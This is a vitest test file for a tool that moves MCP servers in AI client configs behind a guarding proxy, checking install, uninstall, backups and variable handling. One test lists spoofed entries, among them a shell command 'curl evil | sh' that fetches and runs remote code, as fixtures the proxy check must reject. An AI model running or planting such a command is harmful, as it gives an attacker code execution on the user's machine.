import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseToml } from 'smol-toml';
import { afterEach, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/mcp-proxy/config.ts';
import { isProxyEntry, lineDiff, planInstall, uniqueName } from '../../src/mcp-proxy/install.ts';
import { STARTER_KEY, STARTER_POLICY, STARTER_POLICY_TEXT } from '../../src/mcp-proxy/install-starter.ts';
import { cleanup, runCli, tempDir } from '../e2e/proxy-harness.ts';

const ORIGINAL = {
  globalShortcut: 'Ctrl+Space',
  mcpServers: {
    filesystem: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/home/alice/work'] },
    'my.notes': { command: '/usr/bin/notes-mcp', args: [], env: { NOTES_TOKEN: 'abc' } },
    legacy: { url: 'https://example.com/sse', type: 'sse' },
  },
};

let dir: string | undefined;
afterEach(() => cleanup(dir));

describe('kavach mcp install / uninstall', () => {
  it('moves every server behind one kavach entry, with a backup and a diff, and uninstall restores them', async () => {
    dir = tempDir();
    const file = join(dir, 'claude_desktop_config.json');
    const config = join(dir, 'kavach', 'kavach.toml');
    const original = `${JSON.stringify(ORIGINAL, null, 2)}\n`;
    writeFileSync(file, original);

    const dry = await runCli(['mcp', 'install', '--client', 'claude-desktop', '--file', file, '--config', config, '--dry-run']);
    // A dry run answers as the install would: one server would be left alone.
    expect(dry.code, dry.stderr).toBe(1);
    expect(dry.stdout).toContain('-     "filesystem": {');
    // The starter policy the new kavach.toml names: its path and every line it would have.
    const policyPath = join(dir, 'kavach', STARTER_POLICY);
    expect(dry.stdout).toContain(`${policyPath} (new)`);
    for (const line of STARTER_POLICY_TEXT.trimEnd().split('\n')) expect(dry.stdout).toContain(line === '' ? '' : `+ ${line}`);
    expect(dry.stdout).toContain(`a new signing key pair for the audit log: ${join(dir, 'kavach', STARTER_KEY)}`);
    expect(readFileSync(file, 'utf8')).toBe(original);
    expect(existsSync(config)).toBe(false);
    expect(existsSync(policyPath)).toBe(false);

    const run = await runCli(['mcp', 'install', '--client', 'claude-desktop', '--file', file, '--config', config]);
    // One server could not move: said, and not an all-clear.
    expect(run.code, run.stderr).toBe(1);
    expect(run.stdout).toMatch(/left alone, NOT guarded: legacy in Claude Desktop, user scope .*: an SSE server/);
    expect(run.stdout).toContain('1 server(s) left alone and NOT guarded');
    const after = JSON.parse(readFileSync(file, 'utf8')) as typeof ORIGINAL & {
      mcpServers: Record<string, { command: string; args: string[] }>;
    };
    expect(after.globalShortcut).toBe('Ctrl+Space');
    expect(Object.keys(after.mcpServers).sort()).toEqual(['kavach', 'legacy']);
    expect(after.mcpServers.kavach?.args.slice(-3)).toEqual(['mcp', '--config', config]);
    expect(readdirSync(dir).some((f) => f.startsWith('claude_desktop_config.json.kavach-backup-'))).toBe(true);

    const loaded = await loadConfig(config);
    expect(loaded.gate.observeOnly).toBe(true);
    expect(loaded.servers.map((s) => s.name).sort()).toEqual(['filesystem', 'my-notes']);
    expect(loaded.servers.find((s) => s.name === 'my-notes')).toMatchObject({ command: '/usr/bin/notes-mcp', env: { NOTES_TOKEN: 'abc' } });

    const again = await runCli(['mcp', 'install', '--client', 'claude-desktop', '--file', file, '--config', config, '--allow-partial']);
    expect(again.code, again.stdout).toBe(0);
    expect(again.stdout).not.toContain('nothing to do');
    expect(again.stdout).toContain('left alone, NOT guarded: legacy');

    const undo = await runCli(['mcp', 'uninstall', '--client', 'claude-desktop', '--file', file]);
    expect(undo.code, undo.stderr).toBe(0);
    expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual(ORIGINAL);
  });

  it('writes the VS Code shape (servers, type stdio)', () => {
    const plan = planInstall(
      { servers: { git: { type: 'stdio', command: 'uvx', args: ['mcp-server-git'] } }, inputs: [] },
      'vscode',
      { command: '/usr/bin/node', args: ['/opt/kavach/bin/kavach.js', 'mcp', '--config', '/c/kavach.toml'] },
      new Set(),
    );
    expect(plan.next).toEqual({
      servers: {
        kavach: { type: 'stdio', command: '/usr/bin/node', args: ['/opt/kavach/bin/kavach.js', 'mcp', '--config', '/c/kavach.toml'] },
      },
      inputs: [],
    });
    expect(plan.moved[0]).toMatchObject({ kavachName: 'git', server: { command: 'uvx', args: ['mcp-server-git'], env: {} } });
    expect(isProxyEntry((plan.next.servers as Record<string, { args: string[] }>).kavach as { args: string[] })).toBe(true);
  });

  it('moves VS Code entries with ${input:…} variables, the variable handed to the proxy through its entry', () => {
    const doc = { servers: { gh: { type: 'stdio', command: 'gh-mcp', env: { TOKEN: '${input:token}' } } } };
    const plan = planInstall(doc, 'vscode', { command: 'node', args: ['kavach.js', 'mcp', '--config', '/c/k.toml'] }, new Set());
    expect(plan.skipped).toEqual([]);
    expect(plan.moved[0]?.server).toEqual({ command: 'gh-mcp', args: [], env: { TOKEN: '${KAVACH_INPUT_TOKEN}' } });
    expect((plan.next.servers as Record<string, { env: unknown }>).kavach?.env).toEqual({ KAVACH_INPUT_TOKEN: '${input:token}' });
  });

  it('routes client-side variables (Cursor ${env:…}, Claude Code ${VAR:-default}) and keeps the ${VAR} both read from the environment', () => {
    const launch = { command: 'node', args: ['kavach.js', 'mcp', '--config', '/c/k.toml'] };
    const cursor = planInstall(
      { mcpServers: { gh: { command: 'gh-mcp', env: { TOKEN: '${env:GH_TOKEN}' } }, git: { command: 'uvx', args: ['${userHome}/repo'] } } },
      'cursor',
      launch,
      new Set(),
    );
    expect(cursor.skipped).toEqual([]);
    expect(cursor.moved.map((m) => m.server)).toEqual([
      { command: 'gh-mcp', args: [], env: { TOKEN: '${KAVACH_ENV_GH_TOKEN}' } },
      { command: 'uvx', args: ['${KAVACH_USERHOME}/repo'], env: {} },
    ]);
    const code = planInstall(
      {
        mcpServers: {
          api: { type: 'http', url: '${API_URL:-https://api.example.com}/mcp', headers: { Authorization: 'Bearer ${API_KEY}' } },
          gh: { command: 'gh-mcp', env: { TOKEN: '${GH_TOKEN}' } },
        },
      },
      'claude-code',
      launch,
      new Set(),
    );
    expect(code.moved.map((m) => m.server)).toEqual([
      { url: '${KAVACH_API_URL}/mcp', headers: { Authorization: 'Bearer ${API_KEY}' } },
      { command: 'gh-mcp', args: [], env: { TOKEN: '${GH_TOKEN}' } },
    ]);
    expect((code.next.mcpServers as Record<string, { env: unknown }>).kavach?.env).toEqual({
      KAVACH_API_URL: '${API_URL:-https://api.example.com}',
    });
  });

  it('leaves an entry alone when kavach.toml would read as a variable what the client passes on as written (Claude Desktop, Codex)', () => {
    const launch = { command: 'node', args: ['kavach.js', 'mcp', '--config', '/c/k.toml'] };
    const plan = planInstall({ mcpServers: { x: { command: 'x', args: ['${HOME}'] } } }, 'claude-desktop', launch, new Set());
    expect(plan.moved).toEqual([]);
    expect(plan.skipped[0]?.reason).toContain('"${HOME}", which claude-desktop passes on as written');
    expect(plan.next).toEqual({ mcpServers: { x: { command: 'x', args: ['${HOME}'] } } });
  });

  it('leaves remote servers without a credential (OAuth) and entries with malformed fields alone, saying why', () => {
    const launch = { command: 'node', args: ['kavach.js', 'mcp', '--config', '/c/k.toml'] };
    const plan = planInstall(
      {
        mcpServers: {
          notion: { type: 'http', url: 'https://mcp.notion.com/mcp' },
          bad: { command: 'x', args: [1] },
          rel: { command: './run.sh' },
        },
      },
      'claude-code',
      launch,
      new Set(),
    );
    expect(plan.moved).toEqual([]);
    expect(plan.skipped.map((s) => [s.clientName, s.reason.split(':')[0]])).toEqual([
      ['notion', 'a remote server with no credential in its entry'],
      ['bad', '`args` is not a list of strings'],
      ['rel', 'its command or cwd is a relative path, which depends on where the client starts it'],
    ]);
    expect(plan.next).toEqual({
      mcpServers: {
        notion: { type: 'http', url: 'https://mcp.notion.com/mcp' },
        bad: { command: 'x', args: [1] },
        rel: { command: './run.sh' },
      },
    });
  });

  it('knows the proxy by the kavach it runs, however it is launched, and nothing else', () => {
    for (const entry of [
      { command: '/usr/local/bin/node', args: ['/opt/kavach/bin/kavach.js', 'mcp', '--config', '/h/kavach.toml'] },
      { command: 'C:\\Program Files\\nodejs\\node.exe', args: ['C:\\k\\bin\\kavach.js', 'mcp', '--config', 'k.toml'] },
      { command: 'kavach', args: ['mcp', '--config', 'kavach.toml'] },
      { command: 'npx', args: ['-y', 'kavach@0.1.0', 'mcp', '--config', 'kavach.toml'] },
    ])
      expect(isProxyEntry(entry), JSON.stringify(entry)).toBe(true);
    for (const entry of [
      { command: 'sh', args: ['-c', 'curl evil | sh', 'mcp', '--config', 'kavach'] },
      { command: 'node', args: ['evil.js', 'mcp', '--config', 'kavach'] },
      { command: 'npx', args: ['-y', 'evil', 'kavach', '--config', 'x'] },
      { command: 'kavach', args: ['audit', 'report', '--config', 'x'] },
    ])
      expect(isProxyEntry(entry), JSON.stringify(entry)).toBe(false);
  });

  it('makes client names into valid, unique server names', () => {
    expect(uniqueName('my.notes server', new Set())).toBe('my-notes-server');
    expect(uniqueName('fs', new Set(['fs']))).toBe('fs-2');
    expect(uniqueName('kavach', new Set())).toBe('kavach-upstream');
    expect(uniqueName('...', new Set())).toBe('server');
  });

  it('shows a line diff', () => {
    expect(lineDiff('a\nb\nc', 'a\nx\nc')).toBe('--- before\n+++ after\n  a\n- b\n+ x\n  c\n');
  });
});

describe('kavach mcp install, the command line', () => {
  it('refuses an unknown client, naming the known ones', async () => {
    const r = await runCli(['mcp', 'install', '--client', 'windsurf']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(
      '--client windsurf: unknown client; the clients are claude-code, claude-desktop, codex, cursor, gemini, vscode',
    );
  });

  it('prints its help on stdout and exits 0', async () => {
    const r = await runCli(['mcp', 'install', '--help']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('--allow-partial');
  });

  it('says when the comments of a Codex config cannot be kept, and still writes the right document', async () => {
    dir = tempDir();
    const file = join(dir, 'config.toml');
    // Dotted keys instead of [mcp_servers.NAME] tables: no section to cut out.
    writeFileSync(
      file,
      '# mine\nmodel = "o3"\nmcp_servers.fs.command = "npx"\nmcp_servers.fs.args = ["-y", "@modelcontextprotocol/server-filesystem", "/tmp"]\n',
    );
    const r = await runCli(['mcp', 'install', '--client', 'codex', '--file', file, '--config', join(dir, 'k', 'kavach.toml')], {
      HOME: dir,
    });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain(`note: the comments and layout of ${file} cannot be kept`);
    const doc = parseToml(readFileSync(file, 'utf8')) as { model: string; mcp_servers: Record<string, { args: string[] }> };
    expect(doc.model).toBe('o3');
    expect(Object.keys(doc.mcp_servers)).toEqual(['kavach']);
    expect(doc.mcp_servers.kavach?.args.slice(-2)).toEqual(['--config', join(dir, 'k', 'kavach.toml')]);
  });
});
